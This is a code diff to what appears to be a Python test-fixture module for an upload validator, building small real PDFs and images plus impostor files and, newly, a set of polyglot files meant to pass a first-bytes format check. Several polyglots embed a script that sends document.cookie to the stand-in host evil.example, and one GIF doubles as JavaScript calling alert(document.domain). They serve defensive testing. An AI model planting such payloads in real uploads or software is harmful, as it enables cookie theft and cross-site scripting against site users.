@@ -1,7 +1,11 @@
-"""Sample files for license tests: the smallest real file of each accepted format, and impostors."""
+"""Sample files for license tests: small real files of each accepted format (made with Pillow, and a PDF
+written by hand with its cross-reference table), impostors, and polyglots."""
 
+import io
 import struct
 import zlib
+
+from PIL import Image
 
 
 def _chunk(kind, data):
@@ -15,24 +19,46 @@ def png_bytes():
     return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")
 
 
+def _image(file_format):
+    out = io.BytesIO()
+    Image.new("RGB", (4, 4), (200, 30, 30)).save(out, format=file_format)
+    return out.getvalue()
+
+
+def _pdf(padding):
+    """A one-page PDF whose comment line before the cross-reference table has padding bytes."""
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
+    ]
+    out, offsets = b"%PDF-1.4\n", []
+    for number, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    if padding:
+        out += b"%" + b"x" * (padding - 1) + b"\n"
+    xref = len(out)
+    out += b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    return out + b"trailer << /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref
+
+
 def pdf_bytes(padding=0):
-    """A small PDF; padding adds that many bytes of comment so that its size can be chosen."""
-    body = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n"
-    return body + b"%" + b"x" * max(padding - 1, 0) + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"
+    """A small PDF; padding adds about that many bytes of comment so that its size can be chosen."""
+    return _pdf(padding)
 
 
 def pdf_of_size(size):
-    """A PDF of exactly size bytes."""
-    base = len(pdf_bytes())
-    return pdf_bytes(padding=size - base + 1) if size > base else pdf_bytes()[:size]
+    """A PDF of exactly size bytes (at least the smallest PDF's)."""
+    padding = max(size - len(_pdf(0)) - 1, 0)
+    while len(_pdf(padding)) != size and padding > 0:
+        padding += size - len(_pdf(padding))
+    return _pdf(padding)
 
 
-JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 32 + b"\xff\xd9"
-GIF = (
-    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
-    b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
-)
-WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
+JPEG = _image("JPEG")
+GIF = _image("GIF")
+WEBP = _image("WEBP")
 #: A Windows program renamed to look like a PDF.
 EXE = (
     b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
@@ -41,3 +67,15 @@ EXE = (
 )
 #: The PNG signature and the start of the IHDR chunk, cut off.
 TRUNCATED_PNG = png_bytes()[:20]
+
+_PAGE = b"<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>\n"
+#: Files whose first bytes name an accepted format but which are something else too (issue 25): each
+#: passed the first-bytes check before the content check existed.
+POLYGLOTS = {
+    "pdf header, then html": b"%PDF-1.4\n" + _PAGE,
+    "png header, then html": png_bytes()[:33] + _PAGE,
+    "gif header, then javascript": b"GIF89a/*\x01\x00\x00\x00\x00*/=1;alert(document.domain);//" + b"\x00" * 8,
+    "a whole png, then html": png_bytes() + _PAGE,
+    "a whole pdf, then html": pdf_bytes() + _PAGE,
+    "a jpeg with a script in its comment": JPEG[:2] + b"\xff\xfe\x00\x30" + _PAGE[:46] + JPEG[2:],
+}
